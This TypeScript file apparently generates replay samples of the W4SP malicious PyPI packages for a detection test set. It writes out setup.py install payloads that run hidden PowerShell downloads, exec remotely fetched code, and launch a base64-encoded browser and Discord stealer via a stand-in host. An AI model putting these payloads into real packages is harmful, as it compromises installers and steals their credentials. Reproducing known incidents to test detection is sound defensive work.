import { base64 } from './encoders.ts';
import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { pinnedHeaderSetup } from './look-alikes/setup-scripts.ts';
import { securityScanner } from './look-alikes/text.ts';
import { browserStealer } from './payloads.ts';
import { py } from './python-text.ts';

const setupCall = (name: string, version: string): string =>
  `\nsetup(\n    name="${name}",\n    version="${version}",\n    packages=find_packages(),\n    description="Handy helpers",\n)\n`;

const HEAD = 'from setuptools import setup, find_packages\n';

function powershell(c: Remote): Draft {
  const code = py`
import os
import subprocess

command = (
    "$ProgressPreference = 'SilentlyContinue'; "
    "Invoke-WebRequest -UseBasicParsing -Uri '${c.url('/s/Oxzy.exe?dl=1')}' -OutFile \"$env:TEMP\\WindowsCache.exe\"; "
    "Invoke-Expression \"$env:TEMP\\WindowsCache.exe\""
)
if os.name == "nt":
    subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-command", command], shell=False, creationflags=0x08000000)
`;
  return {
    kind: 'sdist',
    name: 'colorslib',
    version: '4.6.11',
    files: { 'colorslib/__init__.py': fillerModule('Names of colours.', 60, 91) },
    sites: [{ path: 'setup.py', form: 'setup', before: HEAD, code, after: setupCall('colorslib', '4.6.11') }],
  };
}

function temporaryFile(c: Remote): Draft {
  const code = py`
from tempfile import NamedTemporaryFile as _ffile
from sys import executable as _eexecutable
from os import system as _ssystem

_ttmp = _ffile(delete=False)
_ttmp.write(b"""from urllib.request import urlopen as _uurlopen;exec(_uurlopen('${c.url('/inject/aH8Kx2')}').read())""")
_ttmp.close()
try:
    _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
except:
    pass
`;
  return {
    kind: 'sdist',
    name: 'httpslib',
    version: '4.6.9',
    files: { 'httpslib/__init__.py': fillerModule('Thin wrappers of the standard client.', 80, 92) },
    sites: [{ path: 'setup.py', form: 'setup', before: HEAD, code, after: setupCall('httpslib', '4.6.9') }],
  };
}

function encodedStealer(c: Remote): Draft {
  const code = py`
import base64
import os
import sys
import tempfile

_stage = base64.b64decode("${base64(browserStealer(c))}")
_path = os.path.join(tempfile.gettempdir(), "winsys.py")
with open(_path, "wb") as _stream:
    _stream.write(_stage)
os.system('start /min "" "%s" "%s"' % (sys.executable.replace("python.exe", "pythonw.exe"), _path))
`;
  return {
    kind: 'sdist',
    name: 'libhttps',
    version: '4.6.12',
    files: { 'libhttps/__init__.py': fillerModule('Helpers for requests.', 70, 93) },
    sites: [{ path: 'setup.py', form: 'setup', before: HEAD, code, after: setupCall('libhttps', '4.6.12') }],
  };
}

const SHARED = {
  source: 'https://edwinkwan.com/2023/01/18/malicious-lolip0p-pypi-packages-install-info-stealing-malware/',
  remote: 'https://dl.box-files.invalid',
};

export const W4SP: readonly Replay[] = [
  {
    ...SHARED,
    id: '04a-w4sp-powershell',
    title: 'colorslib: setup.py starts a hidden PowerShell that downloads and runs a program',
    runs: 'setup.py starts PowerShell without a window; it downloads WindowsCache.exe and runs it',
    draft: powershell,
    lookAlikes: () => [pinnedHeaderSetup()],
  },
  {
    ...SHARED,
    id: '04b-w4sp-tempfile',
    title: 'httpslib: setup.py writes a one-line loader into a temporary file and starts it',
    runs: 'setup.py writes Python into a temporary file, that fetches and executes the next stage, started by pythonw',
    draft: temporaryFile,
    lookAlikes: () => [securityScanner()],
  },
  {
    ...SHARED,
    id: '04c-w4sp-stealer',
    title: 'libhttps: setup.py decodes a browser and Discord stealer, writes it and starts it',
    runs: 'setup.py decodes a stealer from base64, writes it to the temporary folder and starts it with pythonw',
    draft: encodedStealer,
    lookAlikes: () => [],
  },
];
